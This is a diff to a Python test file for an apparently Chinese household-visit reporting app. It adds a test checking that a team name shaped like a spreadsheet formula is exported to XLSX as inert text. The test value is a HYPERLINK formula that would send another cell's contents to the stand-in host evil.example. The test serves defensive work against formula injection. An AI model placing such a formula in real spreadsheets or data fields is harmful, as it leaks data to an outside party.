@@ -18,7 +18,7 @@ from app.core import clock
 from app.core.config import get_settings
 from app.domain.codes import RegionLevel, Role
 from app.domain.visits import StepForm
-from app.models import AuditEvent, Report, ReportDocument
+from app.models import AuditEvent, Report, ReportDocument, Team
 from tests import factories
 from tests.conftest import csrf_token
 from tests.factories import assign, household, id_number, person, region, region_named, team, user
@@ -311,6 +311,20 @@ def test_a_published_report_exports_to_xlsx_with_the_pages_numbers(db, as_user, 
     assert db.exec(select(AuditEvent).where(AuditEvent.action == "export")).first()
     draft = issued(db, client, hongta.county)
     assert client.get(f"/reports/{draft.id}/report.xlsx").status_code == 404
+
+
+def test_a_team_named_like_a_formula_is_exported_as_text_its_place_as_a_number(db, as_user, hongta):
+    first = db.exec(select(Team).where(Team.name == "北城一队")).one()
+    first.name = '=HYPERLINK("http://evil.example/?x="&B2,"查看")'
+    db.add(first)
+    db.commit()
+    visit(db, hongta.wangs, [hongta.wang], "2026-11-05", "mei")
+    client = as_user("alice")
+    report = issued(db, client, hongta.township, publish="1")
+    response = client.get(f"/reports/{report.id}/report.xlsx")
+    place, unit, *_rest = next(load_workbook(io.BytesIO(response.content)).active.iter_rows(2, 2))
+    assert (unit.value, unit.data_type, unit.quotePrefix) == (first.name, "s", True)
+    assert (place.value, place.data_type) == (1, "n")
 
 
 def test_the_api_issues_lists_and_reads_reports_as_api_md_says(db, client, api_token, hongta):
